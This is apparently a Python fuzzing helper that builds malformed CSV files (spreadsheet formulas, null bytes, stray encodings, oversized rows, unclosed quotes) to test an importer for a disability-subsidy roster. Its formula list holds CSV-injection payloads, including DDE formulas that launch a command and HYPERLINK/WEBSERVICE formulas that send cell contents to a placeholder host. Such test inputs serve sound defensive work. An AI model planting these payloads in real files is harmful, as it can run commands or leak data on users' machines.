"""Text files as nobody should send them, and what the spoilt files have in common."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import NamedTuple

MEGABYTE = 1024 * 1024
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    '=WEBSERVICE("http://example.invalid")',
)
TITLE = "2022年5月残疾人两项补贴发放花名册"
HEADINGS = ("姓名", "证件号", "户籍区县", "补贴类型", "补贴金额")


class Good(NamedTuple):
    """A list that can be imported as it is."""

    name: str
    content: bytes

    @property
    def is_archive(self) -> bool:
        """Whether it is a zip archive."""
        return self.content.startswith(b"PK")


Chance = random.Random


def formula_rows(chance: Chance) -> list[list[str]]:
    """A list of which every cell is a formula."""
    rows = [[chance.choice(FORMULAS) for _ in HEADINGS] for _ in range(chance.choice((1, 40)))]
    return [[TITLE], list(HEADINGS), *rows]


def formulas_as_text(_good: Good, chance: Chance) -> tuple[str, bytes]:
    """The same as a text file."""
    quoted = (",".join(f'"{_doubled(said)}"' for said in row) for row in formula_rows(chance))
    return "2022-05.csv", "\n".join(quoted).encode()


def _doubled(said: str) -> str:
    return said.replace('"', '""')


def zeros(good: Good, chance: Chance) -> tuple[str, bytes]:
    """Zero bytes between the letters."""
    at = chance.randrange(len(good.content))
    return good.name, good.content[:at] + bytes(chance.choice((1, 3, 1000))) + good.content[at:]


def encoded(good: Good, chance: Chance) -> tuple[str, bytes]:
    """Letters in another encoding than any in use."""
    text = good.content.decode("utf-8", "replace")
    names = ("utf-16-le", "utf-16-be", "utf-32", "utf-7", "shift_jis", "big5", "euc_kr", "cp037")
    marks = (b"", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"\x2b\x2f\x76\x38")
    return good.name, chance.choice(marks) + text.encode(chance.choice(names), "replace")


def wide(good: Good, chance: Chance) -> tuple[str, bytes]:
    """A row of a million columns, among the others or alone."""
    row = b"," * chance.choice((1_000_000, 4_000_000))
    return good.name, row if chance.random() < 0.3 else good.content + b"\n" + row


def long_text(good: Good, chance: Chance) -> tuple[str, bytes]:
    """Hundreds of thousands of rows, or one cell of megabytes."""
    if chance.random() < 0.5:
        return good.name, good.content + b"1,2,3\n" * 300_000
    return good.name, good.content + b'"' + b"x" * (4 * MEGABYTE) + b'"'


def unclosed(good: Good, chance: Chance) -> tuple[str, bytes]:
    """Quotation marks that are never closed, and line ends of every kind."""
    text = bytearray(good.content)
    for _ in range(chance.choice((1, 30))):
        mark = chance.choice((b'"', b'""', b"\r", b"\n", b"\x85", b"\x0b", "\u2028".encode()))
        at = chance.randrange(len(text))
        text[at:at] = mark
    return good.name, bytes(text)


def headings_only(good: Good, chance: Chance) -> tuple[str, bytes]:
    """Nothing below the headings, or nothing above them."""
    lines = good.content.splitlines(keepends=True)
    return good.name, b"".join(
        lines[: chance.choice((1, 2))] if chance.random() < 0.5 else lines[2:]
    )


TEXTS: tuple[Callable[[Good, Chance], tuple[str, bytes]], ...] = (
    formulas_as_text,
    zeros,
    encoded,
    wide,
    long_text,
    unclosed,
    headings_only,
)
